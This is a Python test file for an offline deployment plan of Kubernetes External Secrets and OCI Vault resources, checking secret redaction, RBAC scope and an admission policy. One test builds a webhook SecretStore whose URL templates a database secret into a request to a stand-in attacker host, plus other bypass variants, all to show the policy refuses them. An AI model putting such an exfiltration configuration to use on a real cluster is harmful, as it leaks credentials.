"""The offline plan: the real program under the mocks, with nothing secret in what it prints or writes."""

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import celpy
import kubernetes_validate
import pytest
import yaml

from components.cluster_access import deployer_access
from components.naming import DEFAULT_SERVICES
from components.stack_config import CLOCK_VARIABLE
from offline import plan
from offline.harness import PROJECT_DIR, STACKS
from tests.conftest import PINNED_TODAY

URL = "postgres://orders:plan-test-pa55word@db.internal:5432/orders"


@pytest.fixture
def urls_file(tmp_path, monkeypatch) -> Path:
    path = tmp_path / "urls.json"
    path.write_text(json.dumps({stack: {s: URL for s in DEFAULT_SERVICES} for stack in STACKS}))
    monkeypatch.setenv(plan.DATABASE_URLS_VARIABLE, str(path))
    return path


@pytest.mark.parametrize("form", [[], ["--markdown"], ["--json"]])
def test_a_real_database_url_appears_nowhere_in_the_plan(urls_file, tmp_path, capsys, form):
    """Printed plan (any form) and every written file show database URLs only as [secret]."""
    out = tmp_path / "out"
    assert plan.main(["all", *form, "--out", str(out)]) == 0
    printed = capsys.readouterr()
    written = "".join(p.read_text() for p in out.rglob("*") if p.is_file())
    for text in (printed.out, printed.err, written):
        assert "pa55word" not in text
        assert "cGxhbi10ZXN0" not in text  # nor its base64 form
    assert "[secret]" in printed.out


def test_the_plan_lists_each_stacks_inventory(capsys):
    """For each stack: 1 vault, 1 key, 22 secrets, 1 store, 11 ExternalSecrets; with disasterRecovery, a vault and
    key for the replicas, and with a standby cluster a store and 11 ExternalSecrets there too."""
    assert plan.main(["all", "--json"]) == 0
    for stack_plan in json.loads(capsys.readouterr().out):
        types = [r["type"] for r in stack_plan["resources"]]
        counts = {t: types.count(t) for t in set(types)}
        regions = 2 if stack_plan["stack"] == "production" else 1
        assert counts["oci:Kms/vault:Vault"] == counts["oci:Kms/key:Key"] == regions
        assert len({r["inputs"]["metadata"]["path"] for r in stack_plan["resources"] if r["type"] == "oci:Vault/secret:Secret"}) == 22
        assert counts["kubernetes:external-secrets.io/v1:SecretStore"] == regions
        assert counts["kubernetes:external-secrets.io/v1:ExternalSecret"] == 11 * regions


@pytest.mark.parametrize("stack", STACKS)
def test_written_manifests_are_valid_kubernetes_objects(tmp_path, capsys, schemas_dir, stack):
    """`--out` writes YAML that kubectl would accept: built-in kinds and ESO kinds against their schemas."""
    from tests.test_schemas import crd_spec_schema, validate

    assert plan.main([stack, "--out", str(tmp_path)]) == 0
    documents = list(yaml.safe_load_all((tmp_path / stack / "kubernetes.yaml").read_text()))
    assert {d["kind"] for d in documents} == {"Namespace", "ServiceAccount", "SecretStore", "ExternalSecret"}
    for document in documents:
        if document["apiVersion"] == "v1":
            kubernetes_validate.validate(document, "1.34", strict=True)
        else:
            validate(crd_spec_schema(schemas_dir, document["kind"].lower() + "s"), document["spec"])
    iam_text = (tmp_path / stack / "iam-policy.txt").read_text()
    statements = [line for line in iam_text.splitlines() if line and not line.startswith("#")]
    assert statements and all(s.startswith(("Allow ", "Deny ")) for s in statements)
    # The IAM program's statements, for the IAM administrator; none waits for an OCID of the deployment.
    assert f"# Policy ecommerce-{stack}-secrets-access:" in iam_text and "<" not in "".join(statements)
    access = list(yaml.safe_load_all((tmp_path / stack / "deployer-access.yaml").read_text()))
    assert [d["kind"] for d in access] == ["Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding",
                                           "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]
    for document in access:
        kubernetes_validate.validate(document, "1.34", strict=True)


def test_the_deployers_kubernetes_access_cannot_reach_a_value():
    """The Role that closes the chain through the cluster grants no Secret, pod or workload, no service-account
    token, no RBAC and no wildcard; its cluster-wide part reaches one namespace object only."""
    role, _, cluster_role, *_ = deployer_access("production", "ecommerce-production", "ecommerce-secrets-sync")
    granted = {(group, resource) for rule in role["rules"] + cluster_role["rules"]
               for group in rule["apiGroups"] for resource in rule["resources"]}
    assert granted == {("external-secrets.io", "secretstores"), ("external-secrets.io", "externalsecrets"),
                       ("", "serviceaccounts"), ("", "namespaces")}
    verbs = {verb for rule in role["rules"] + cluster_role["rules"] for verb in rule["verbs"]}
    assert not verbs & {"*", "bind", "escalate", "impersonate"}
    assert cluster_role["rules"][0]["resourceNames"] == ["ecommerce-production"]


def test_an_unknown_stack_lists_the_stacks_that_exist(capsys):
    """A typo in the stack name says which stacks there are."""
    assert plan.main(["prod"]) == 2
    assert "stacks here: development, production, staging" in capsys.readouterr().err


@pytest.fixture(scope="module", autouse=True)
def plan_under_another_hash_seed(tmp_path_factory) -> Iterator[Callable[[], tuple[str, Path]]]:
    """`python -m offline.plan all --markdown --out DIR` in a process under a hash seed other than this one's.

    Started as this module starts, so that it runs on the other core beside the module's tests;
    the determinism test collects it (what it printed, DIR).
    """
    seed = "2" if os.environ.get("PYTHONHASHSEED") == "1" else "1"
    out = tmp_path_factory.mktemp("seeded") / "out"
    process = subprocess.Popen(
        [sys.executable, "-m", "offline.plan", "all", "--markdown", "--out", str(out)],
        cwd=PROJECT_DIR, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PYTHONHASHSEED": seed, CLOCK_VARIABLE: PINNED_TODAY.isoformat()},
    )

    def collect() -> tuple[str, Path]:
        printed, errors = process.communicate(timeout=600)
        assert process.returncode == 0, errors
        return printed, out

    yield collect
    process.kill()
    process.communicate()


def files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_the_plan_is_byte_identical_under_any_hash_seed(plan_under_another_hash_seed, tmp_path, capsys, monkeypatch):
    """Same stacks, same bytes: the printed plan and every --out file depend neither on PYTHONHASHSEED nor on
    the order in which the SDK's threads happen to register resources (a run here, one in another process)."""
    monkeypatch.setenv(CLOCK_VARIABLE, PINNED_TODAY.isoformat())
    assert plan.main(["all", "--markdown", "--out", str(tmp_path)]) == 0
    here = capsys.readouterr()
    out, there = plan_under_another_hash_seed()
    assert here.out == out
    assert files(tmp_path) == files(there) and files(there)


def admitted(policy: dict, store: dict) -> bool:
    """What the API server does with a SecretStore under the policy: every validation must evaluate to true;
    one that is false or fails to evaluate (a missing field) refuses it, since failurePolicy is Fail."""
    assert policy["spec"]["failurePolicy"] == "Fail"
    environment = celpy.Environment()
    for validation in policy["spec"]["validations"]:
        try:
            if environment.program(environment.compile(validation["expression"])).evaluate(
                    {"object": celpy.json_to_cel(store)}) != celpy.celtypes.BoolType(True):
                return False
        except celpy.CELEvalError:
            return False
    return True


def test_the_deployer_can_write_no_secret_store_that_sends_a_value_out(stack_runs):
    """With deployer-access.yaml applied the deployer still writes its namespace's SecretStore (the program creates
    it). It could make one of ESO's webhook provider, whose URL templates a synced Secret's value (ESO
    docs/provider/webhook.md), or an oracle one with an API key of its own, and ESO's controller, which reads every
    Secret, would send that value out. The admission policy, evaluated here with a CEL engine as the API server
    would, admits the program's own store and refuses those, in that namespace only."""
    store = stack_runs["production"].of_type("kubernetes:external-secrets.io/v1:SecretStore")[0].plain_inputs
    namespace, oracle = store["metadata"]["namespace"], store["spec"]["provider"]["oracle"]
    documents = deployer_access("production", namespace, oracle["serviceAccountRef"]["name"])
    [policy] = [d for d in documents if d["kind"] == "ValidatingAdmissionPolicy"]
    [binding] = [d for d in documents if d["kind"] == "ValidatingAdmissionPolicyBinding"]
    assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
    assert policy["spec"]["matchConstraints"]["namespaceSelector"] == {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
    [rule] = policy["spec"]["matchConstraints"]["resourceRules"]
    assert rule["resources"] == ["secretstores"] and set(rule["operations"]) == {"CREATE", "UPDATE"}
    assert admitted(policy, store)

    def provider(value: dict) -> dict:
        return {**store, "spec": {"provider": value}}

    webhook = {"webhook": {"url": "https://attacker.example/{{ .s.DATABASE_URL }}", "method": "GET",
                           "secrets": [{"name": "s", "secretRef": {"name": "auth-service-secrets"}}]}}
    refused = {
        "webhook": provider(webhook),
        "webhook beside oracle": provider({**store["spec"]["provider"], **webhook}),
        "oracle with its own API key": provider({"oracle": {**oracle, "principalType": "UserPrincipal",
                                                            "auth": {"user": "ocid1.user.oc1..x", "tenancy": "ocid1.tenancy.oc1..x"}}}),
        "oracle as another service account": provider({"oracle": {**oracle, "serviceAccountRef": {"name": "default"}}}),
        "oracle without a service account": provider({"oracle": {k: v for k, v in oracle.items() if k != "serviceAccountRef"}}),
    }
    assert [name for name, bad in refused.items() if admitted(policy, bad)] == []
